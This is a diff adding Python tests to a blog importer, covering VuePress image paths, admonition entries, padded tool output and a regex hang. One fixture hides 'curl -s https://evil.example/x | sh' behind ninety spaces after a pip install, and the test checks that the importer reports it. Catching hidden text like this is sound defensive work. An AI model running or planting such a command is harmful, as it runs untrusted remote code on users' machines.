@@ -1195,6 +1195,56 @@ def test_public_files_named_through_the_base_or_with_base_and_code_imported_from
     assert import_blog(docs, tmp_path / "out2").needs_a_person == []  # the blog's docs/ given: the same
 
 
+def test_a_relative_link_into_the_public_folder_is_the_public_file(tmp_path):
+    """VuePress 1 bundles ``![](../.vuepress/public/img/a.png)`` as the file beside the page (a real vdoing blog
+    wrote all its pictures so): the import called each one "leads to nothing" and left its alt text instead."""
+    docs = tmp_path / "blog/docs"
+    write(docs / ".vuepress/public/img/a.png", PNG)
+    write(docs / "gRPC笔记/04.bug.md", "---\ntitle: 甲\n---\n![avatar](../.vuepress/public/img/a.png)\n\n"
+          "<img src=\"../.vuepress/public/img/a.png\">\n\n![缺](../.vuepress/public/img/none.png)\n")
+    write(docs / "a/b/深.md", "---\ntitle: 乙\n---\n![深](../../.vuepress/public/img/a.png)\n")
+    out = tmp_path / "out"
+    report = import_blog(tmp_path / "blog", out)
+    page = (out / "gRPC笔记/04.bug.md").read_text(encoding="utf-8")
+    assert "![avatar](../img/a.png)" in page and '<img src="../../img/a.png">' in page
+    assert "![深](../../img/a.png)" in (out / "a/b/深.md").read_text(encoding="utf-8")
+    assert (out / "img/a.png").read_bytes() == PNG
+    assert [line.split(": ", 1)[1] for line in report.needs_a_person] == ["image ../.vuepress/public/img/none.png: leads to nothing in the blog"]
+
+
+def test_a_note_whose_cause_and_fix_stand_in_a_container_is_an_entry(tmp_path):
+    """A real vdoing note put its ``原因：`` and ``解决：`` in a ``::: warning``: the import made that an
+    admonition, its body indented four spaces, and the entry reader (labels at the margin) found no cause or fix."""
+    from errata.entries import find_entries
+
+    body = ("## 4.1找不到类`io.grpc.BindableService`\n```shell\njava.lang.NoClassDefFoundError: io/grpc/BindableService\n"
+            "\tat java.lang.Class.getDeclaredMethods0(Native Method)\n```\n::: warning Tips\n原因：\n<br/>jdk 版本和 jre 版本不一致。\n\n"
+            "解决：\n<br/>检查 **java -version** 和 **javac -version** 版本是否一致。\n:::\n\n重新安装一致的版本。\n")
+    _, docs = import_files(tmp_path, {"gRPC笔记/04.bug.md": "---\ntitle: 甲\n---\n" + body})
+    imported = split_front_matter((docs / "gRPC笔记/04.bug.md").read_text(encoding="utf-8")).body
+    assert '!!! warning "Tips"' in imported
+    [entry] = find_entries(imported)
+    assert entry.message == "java.lang.NoClassDefFoundError: io/grpc/BindableService"
+    assert "jdk 版本和 jre 版本不一致" in entry.sections["analysis"] and "javac -version" in entry.sections["solution"]
+    assert "    " not in entry.sections["solution"]  # dedented as a section at the margin is
+
+
+def test_a_tools_padded_columns_pass_and_a_hidden_command_is_said_before_the_strict_build_refuses_it(tmp_path):
+    """``yum list available`` printed in a real vdoing note pads its columns past column 80: the strict build refused
+    the page (text out of a code block's sight) while the import's report said nothing needs a person. A block of
+    output passes now; a command with text pushed out of sight is said in the report, at its line."""
+    row = "  kernel-lt.x86_64" + " " * 82 + "4.4.155-1.el7.elrepo" + " " * 50 + "elrepo-kernel"
+    command = "pip install requests" + " " * 90 + "; curl -s https://evil.example/x | sh"
+    report, docs = import_files(tmp_path, {
+        "运维/01.在线升级.md": f"---\ntitle: 在线升级\n---\n\n```text\n  Available Packages\n{row}\n```\n",
+        "运维/02.安装.md": f"---\ntitle: 安装\n---\n\n```bash\n{command}\n```\n",
+    })
+    assert report.needs_a_person == [
+        "运维/02.安装.md:6: text after 90 blank characters, out of sight where the line is shown (a code block scrolls"
+        " sideways) but copied with it: remove the blanks; the strict build refuses it until then"
+    ]
+
+
 def test_names_with_url_characters_are_linked_escaped_and_a_hash_is_renamed_so_old_addresses_lead_there(tmp_path):
     """A '#' in a file or folder name (``C#``) made the catalogue's link and the permalink's redirect lead
     nowhere and the strict build fail, while the report said nothing needs a person."""
@@ -1757,3 +1807,14 @@ def test_an_auto_catalogue_page_lists_its_folder(tmp_path):
     assert "- [第一篇](一.md)" in (docs / "前端/index.md").read_text(encoding="utf-8")
     assert "说明文字" in (docs / "后端/README.md").read_text(encoding="utf-8")  # a page with more than the component stays as written
     assert report.failed == []
+
+
+def test_a_page_of_headings_alone_is_no_catalogue_and_no_hang():
+    """An audit of round twenty-two: ``(?:#{1,6}[^\\n]*\\n|\\s)*<AutoCatalog`` matched each ``#### 标题`` line four ways,
+    so a page of sixteen headings and nothing else (a draft's outline) took 4^16 steps to fail: the import hung."""
+    from errata.blog.importer import _only_a_catalogue
+
+    started = time.process_time()
+    assert not _only_a_catalogue("#### 第一节 待写\n" * 40)
+    assert _only_a_catalogue("# 前端\n\n## 目录\n\n<AutoCatalog />\n")
+    assert time.process_time() - started < 1
